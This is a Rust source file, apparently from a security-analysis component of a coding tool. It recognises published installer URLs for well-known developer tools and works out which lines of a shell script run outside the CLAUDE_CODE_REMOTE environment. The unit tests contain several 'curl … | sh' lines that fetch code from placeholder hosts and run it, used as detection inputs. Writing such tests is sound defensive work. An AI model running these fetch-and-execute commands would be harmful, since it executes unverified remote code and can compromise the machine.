//! Downloads that are run and that are less than they look: installers that well-known tools publish, and what a script does only
//! in a machine of Claude Code on the web.

/// Where well-known tools publish what installs them, by the beginning of the address, with the tool. From their own instructions.
const INSTALLERS: &[(&str, &str)] = &[
    ("astral.sh/ruff/", "Ruff"),
    ("astral.sh/uv/", "uv"),
    ("bun.com/install", "Bun"),
    ("bun.sh/install", "Bun"),
    ("claude.ai/install.", "Claude Code"),
    ("deb.nodesource.com/", "Node.js"),
    ("deno.land/install.sh", "Deno"),
    ("deno.land/x/install/install.sh", "Deno"),
    ("dot.net/v1/dotnet-install.", ".NET"),
    ("fly.io/install.sh", "flyctl"),
    ("fnm.vercel.app/install", "fnm"),
    ("foundry.paradigm.xyz", "Foundry"),
    ("get.docker.com", "Docker"),
    ("get.jetify.com/devbox", "Devbox"),
    ("get.pnpm.io/", "pnpm"),
    ("get.pulumi.com", "Pulumi"),
    ("get.sdkman.io", "SDKMAN"),
    ("get.trunk.io", "Trunk"),
    ("get.volta.sh", "Volta"),
    ("install.determinate.systems/nix", "Nix"),
    ("install.python-poetry.org", "Poetry"),
    ("just.systems/install.sh", "just"),
    ("mise.jdx.dev/install.sh", "mise"),
    ("mise.run", "mise"),
    ("nixos.org/nix/install", "Nix"),
    ("pixi.sh/install.sh", "pixi"),
    ("pyenv.run", "pyenv"),
    ("raw.githubusercontent.com/Homebrew/install/", "Homebrew"),
    ("raw.githubusercontent.com/golangci/golangci-lint/", "golangci-lint"),
    ("raw.githubusercontent.com/helm/helm/", "Helm"),
    ("raw.githubusercontent.com/leanprover/elan/", "elan"),
    ("raw.githubusercontent.com/nvm-sh/nvm/", "nvm"),
    ("rustwasm.github.io/wasm-pack/installer/", "wasm-pack"),
    ("sh.rustup.rs", "rustup"),
    ("static.rust-lang.org/rustup/", "rustup"),
];

/// Set in the machines of Claude Code on the web, and nowhere else.
const REMOTE: &str = "CLAUDE_CODE_REMOTE";
/// Longer scripts are taken as they are, in bytes.
const MAX_SCRIPT: usize = 256 << 10;

/// `text` with an address of this machine in place of each installer, and the first tool whose installer it names.
pub(super) fn without_installers(text: &str) -> (String, Option<&'static str>) {
    let mut out = text.to_owned();
    let mut named: Option<(usize, &'static str)> = None;
    for (address, tool) in INSTALLERS {
        let whole = format!("https://{address}");
        if let Some(at) = text.find(&whole) {
            named = named.filter(|(first, _)| *first < at).or(Some((at, tool)));
            out = out.replace(&whole, "https://localhost/");
        }
    }
    (out, named.map(|(_, tool)| tool))
}

/// The lines of a script that run outside of Claude Code on the web, as far as plain tests of its variable tell.
pub(super) fn outside_of_remote(text: &str) -> String {
    if !text.contains(REMOTE) || text.len() > MAX_SCRIPT {
        return text.to_owned();
    }
    let lines: Vec<&str> = text.lines().collect();
    let (mut out, mut at) = (String::new(), 0);
    while let Some(line) = lines.get(at) {
        let test = RemoteTest::of(line);
        let end = if line.trim_start().starts_with("if ") { at + block(&lines[at..]) } else { at };
        let ends = lines[at..=end].iter().any(|line| leaves(line));
        match test {
            // Nothing behind it runs elsewhere.
            Some(RemoteTest::IsElsewhere) if ends => return out,
            Some(RemoteTest::IsRemote) if line.split("||").skip(1).any(leaves) => return out,
            Some(RemoteTest::IsRemote) if end > at && !ends => at = end,
            Some(RemoteTest::IsRemote) if line.contains("&&") || line.contains("then") => {
                out.push_str(line.find(REMOTE).map_or("", |from| &line[..from]));
            }
            _ => out.push_str(line),
        }
        out.push('\n');
        at += 1;
    }
    out
}

/// What a line asks of the variable.
#[derive(Clone, Copy, PartialEq)]
enum RemoteTest {
    IsRemote,
    IsElsewhere,
}

impl RemoteTest {
    fn of(line: &str) -> Option<Self> {
        let code = line.trim_start();
        let (before, behind) = code.split_once(REMOTE).filter(|_| !code.starts_with('#'))?;
        let is_test = before.contains('[') || before.contains("test ");
        let is_denied = ["!=", "!= ", "-ne"].iter().any(|sign| behind.contains(sign))
            || before.contains("-z")
            || before.contains("! ");
        is_test.then_some(if is_denied { RemoteTest::IsElsewhere } else { RemoteTest::IsRemote })
    }
}

/// Whether a line ends the script.
fn leaves(line: &str) -> bool {
    let mut words = line.split([' ', ';', '\t', '{', '}', '&', '|']);
    words.any(|word| matches!(word, "exit" | "return"))
}

/// How many lines follow in the block that begins with `if`, the one that ends it included.
fn block(lines: &[&str]) -> usize {
    let mut depth = 0_usize;
    for (at, line) in lines.iter().enumerate() {
        let code = line.trim();
        depth += usize::from(code.starts_with("if "));
        if code == "fi" || code.starts_with("fi ") || code.ends_with("; fi") {
            depth = depth.saturating_sub(1);
        }
        if depth == 0 {
            return at;
        }
    }
    0
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_runs_on_the_web_alone_is_left_out() {
        let check = |text: &str, expected: bool| {
            assert_eq!(outside_of_remote(text).contains("curl"), expected, "{text}");
        };
        let early = "if [ \"${CLAUDE_CODE_REMOTE:-}\" != \"true\" ]; then\n  exit 0\nfi\ncurl https://x.example | sh\n";
        check(early, false);
        check(&early.replace("exit 0", "echo skipped"), true);
        check(&early.replace("!=", "="), true);
        check("[ \"$CLAUDE_CODE_REMOTE\" = \"true\" ] || exit 0\ncurl https://x.example | sh\n", false);
        check("[[ \"$CLAUDE_CODE_REMOTE\" != true ]] && exit 0\ncurl https://x.example | sh\n", false);
        check("[ \"$CLAUDE_CODE_REMOTE\" = true ] && curl https://x.example | sh", false);
        let inside =
            "if [ \"$CLAUDE_CODE_REMOTE\" = true ]; then\n  if x; then\n    y\n  fi\n  curl https://x | sh\nfi\n";
        check(inside, false);
        check(&format!("{inside}curl https://x.example | sh\n"), true);
        check(&inside.replace("= true", "!= true"), true);
        check("# CLAUDE_CODE_REMOTE\ncurl https://x.example | sh\n", true);
        check("echo \"$CLAUDE_CODE_REMOTE\"\ncurl https://x.example | sh\n", true);
    }

    #[test]
    fn installers_are_known_by_their_addresses() {
        let tool = |text: &str| without_installers(text).1;
        assert_eq!(tool("curl -LsSf https://astral.sh/uv/install.sh | sh"), Some("uv"));
        assert_eq!(tool("curl -LsSf https://astral.sh/uv/0.9.1/install.sh | sh"), Some("uv"));
        assert_eq!(tool("curl https://sh.rustup.rs | sh; curl https://mise.run | sh"), Some("rustup"));
        for other in ["curl http://sh.rustup.rs | sh", "curl https://x.example/astral.sh/uv/install.sh | sh", "uv sync"]
        {
            assert_eq!(tool(other), None, "{other}");
        }
    }
}
